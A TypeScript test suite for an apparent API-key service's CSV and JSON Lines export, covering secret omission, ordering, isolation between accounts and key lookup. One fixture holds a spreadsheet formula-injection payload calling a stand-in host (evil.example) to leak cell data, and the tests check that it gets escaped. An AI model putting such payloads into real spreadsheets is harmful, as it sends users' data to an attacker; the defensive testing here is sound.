import assert from 'node:assert/strict';
import test from 'node:test';
import { parse } from 'csv-parse/sync';
import { putKeys } from '../support/key-list.ts';
import { startKeyward } from '../support/keyward.ts';

const keyward = await startKeyward();
const as = await keyward.asUser('ADMIN');

test('exports the filtered list as CSV and JSON Lines without secrets', async () => {
  const key = await keyward.addKey({ role: 'READONLY', appname: 'secretive' });
  const evil = '=HYPERLINK("http://evil.example?x="&A1,"click")';
  await putKeys(keyward, 'acme1', [
    { appname: 'evil', description: evil, tags: ['out'], state: 'disabled', disabledReason: 'secret issued by x' },
    { appname: 'plain', description: 'one, "two"', tags: ['out', 'two words'], owner: 'gone@example.com' },
  ]);
  const csv = await keyward.ok('GET', '/api/v1/key-export?format=csv&tag=out', { as });
  assert.equal(csv.headers['content-type'], 'text/csv; charset=utf-8');
  assert.match(String(csv.headers['content-disposition']), /^attachment; filename="api-keys-[0-9-]+\.csv"$/);
  const rows = parse(csv.text, { columns: true }) as Record<string, string>[];
  assert.deepEqual(
    rows.map(({ appname, description, disabled_reason: why, owner }) => [appname, description, why, owner]),
    [
      ['evil', `'${evil}`, 'secret issued by x', ''],
      ['plain', 'one, "two"', '', 'gone@example.com'],
    ],
  );
  assert.equal(rows[1]?.['tags'], 'out;two words', 'as an import reads them');
  const all = await keyward.ok('GET', '/api/v1/key-export?format=jsonl', { as });
  assert.equal(all.headers['content-type'], 'application/x-ndjson; charset=utf-8');
  const records = all.text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
  assert.deepEqual(
    records.map(({ appname }) => appname),
    ['secretive', 'evil', 'plain'],
  );
  assert.equal(records[1].disabled_reason, 'secret issued by x');
  assert.ok(!all.text.includes(key.appkey) && !csv.text.includes(key.appkey));
  assert.equal((await keyward.request('GET', '/api/v1/key-export?format=xls', { as })).body.code, 'invalid_request');
});

test('exports named keys in the requested order and omits unknown names', async () => {
  await putKeys(keyward, 'acme1', [{ appname: 'first' }, { appname: 'second' }]);
  const body = { format: 'jsonl', appnames: ['second', 'nobody', 'first'] };
  const { text, headers } = await keyward.ok('POST', '/api/v1/key-export', { body, as });
  assert.deepEqual(
    text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line).appname),
    ['second', 'first'],
  );
  assert.match(String(headers['content-disposition']), /^attachment; filename="api-keys-[0-9-]+\.jsonl"$/);
  const { administrator: otherAdministrator } = await keyward.otherAccount();
  assert.equal((await keyward.ok('POST', '/api/v1/key-export', { body, as: otherAdministrator })).text, '');
});

test('the last four characters of a key find it by its hint', async () => {
  const { data } = (
    await keyward.ok('POST', '/api/v1/api-keys', { body: { appname: 'found-by-end', roles: ['READONLY'] }, as })
  ).body;
  const { body } = await keyward.ok('GET', `/api/v1/api-keys?limit=10&q=${data.appkey.slice(-4)}`, { as });
  assert.ok(body.data.some(({ appname }: { appname: string }) => appname === 'found-by-end'));
});

test('an export accepts 10,000 names of 64 characters', async () => {
  const appnames = Array.from({ length: 10_000 }, (_, index) => `${index}`.padStart(64, 'n'));
  await keyward.ok('POST', '/api/v1/key-export', { body: { format: 'jsonl', appnames }, as });
});
